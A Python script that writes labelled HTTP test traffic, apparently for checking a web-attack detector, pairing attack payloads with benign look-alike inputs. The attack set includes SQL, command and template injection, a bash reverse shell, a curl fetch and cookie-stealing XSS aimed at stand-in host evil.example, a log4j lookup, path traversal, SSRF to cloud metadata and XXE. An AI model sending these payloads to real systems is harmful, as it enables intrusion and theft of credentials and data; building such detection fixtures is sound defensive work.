#!/usr/bin/env python3
"""Write attacks.jsonl and legitimate.jsonl, HTTP transactions as JSON lines, from the readable cases below.

usage: make.py [FOLDER]
"""
import base64
import json
import sys
from pathlib import Path
from urllib.parse import urlencode

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
# name -> the value of one parameter, sent once in the query and once in a JSON body
ATTACKS = {
    "sql_union": "7' union all select login, hash from members -- ",
    "sql_tautology": "x' or 'k'='k",
    "sql_stacked": "3'; drop table invoices; -- ",
    "sql_delay": "1 and sleep(9)",
    "sql_catalogue": "1' and (select count(*) from information_schema.tables) > 3 -- ",
    "nosql_javascript": "a' || this.role == 'admin",
    "ldap_filter": "*)(uid=*",
    "xpath_position": "'] | //user[position()=1] | a['",
    "command_chained": "report.pdf; cat /etc/hostname",
    "command_substitution": "$(curl evil.example)",
    "command_callback": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
    "template_arithmetic": "{{ 7 * 191 }}",
    "template_python": "{{ ''.__class__.__mro__ }}",
    "code_php": "<?php system('id'); ?>",
    "code_node": "require('child_process').execSync('id')",
    "lookup_log4j": "${jndi:ldap://evil.example/x}",
    "xss_script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "xss_handler": "<img src=q onerror=alert(1)>",
    "xss_link": "<a href='javascript:alert(1)'>x</a>",
    "traversal": "../../../../etc/passwd",
    "stream_wrapper": "php://filter/convert.base64-encode/resource=index",
    "ssrf_metadata": "http://169.254.169.254/latest/meta-data/",
    "ssrf_local": "http://127.0.0.1:8080/admin",
    "object_php": 'O:8:"Invoice_":1:{s:1:"a";i:1;}',
    "object_java": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
}
LEGITIMATE = {
    "prose_select": "Please select an option from the table where the prices are listed, and drop me a line.",
    "prose_union": "The union of workers and the drop-off point at the market, or 1 of the 2 others.",
    "name_select": "Patrick O'Select",
    "name_union": "Mary O'Brien-Union",
    "prose_quotes": "It's the dogs' dinner -- or so they say; isn't it?",
    "code_forum": "How do I print a list in Python?\n\n```python\nfor x in items:\n    print(x)\n```\n",
    "code_sql_forum": "My query is slow:\n\nSELECT name FROM people WHERE age > 30 ORDER BY name;\n\nWhich index helps here?",
    "help_shell": "Run `apt-get install nginx` first and then restart the service with systemctl restart nginx please.",
    "stack_trace": "It failed with:\njava.lang.IllegalStateException: closed\n\tat com.example.Shop.load(Shop.java:42)\n",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiIsIm5hbWUiOiJKYW5lIn0.dGhpc2lzbm90YXNpZ25hdHVyZQ",
    "image": "data:image/png;base64," + base64.b64encode(bytes(range(200))).decode(),
    "markdown": "# Title\n\n- one\n- **two**\n\n[a link](https://example.org/a?b=c&d=e) and `code`.",
    "redirect": "https://shop.example.com/account/orders?page=2&sort=date#latest",
    "latex": r"\frac{a}{b} = \sum_{i=0}^{n} x_i \quad \text{where } x_i > 0",
    "css": ".card > a:hover { color: #336699; margin: 0 auto; }",
    "file_name": "holiday-2026 (1).svg",
    "expression": r"^[a-z0-9._-]+@[a-z0-9.-]+\.[a-z]{2,}$",
    "graphql": "query Cart($id: ID!) { cart(id: $id) { lines { sku quantity } total } }",
    "temperature": "between 5 and 7 degrees, or < 3 at night",
}


def transaction(name, label, method, uri, headers, body=b""):
    if body:
        headers = headers + [["Content-Length", str(len(body))]]
    return {"name": name, "label": label, "method": method, "uri": uri, "version": "1.1",
            "headers": [["Host", "shop.example.com"], ["User-Agent", BROWSER], ["Accept", "*/*"]] + headers,
            "body_b64": base64.b64encode(body).decode()}


def both(cases, label):
    for name, value in cases.items():
        yield transaction(name + "_query", label, "GET", "/search?" + urlencode({"q": value}), [])
        body = json.dumps({"item": 7, "text": value}).encode()
        yield transaction(name + "_json", label, "POST", "/api/items", [["Content-Type", "application/json"]], body)


def attacks():
    yield from both(ATTACKS, "attack")
    yield transaction("nosql_operator", "attack", "POST", "/login", [["Content-Type", "application/json"]],
                      b'{"user": "jane", "password": {"$ne": null}}')
    yield transaction("xxe", "attack", "POST", "/import", [["Content-Type", "application/xml"]],
                      b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>')
    yield transaction("smuggling", "attack", "POST", "/", [["Transfer-Encoding", "chunked"], ["Content-Length", "4"]])
    yield transaction("scanner", "attack", "GET", "/", [["User-Agent", "sqlmap/1.8"]])


def main():
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent)
    for name, lines in (("attacks", attacks()), ("legitimate", both(LEGITIMATE, "legit"))):
        (folder / f"{name}.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))


main()
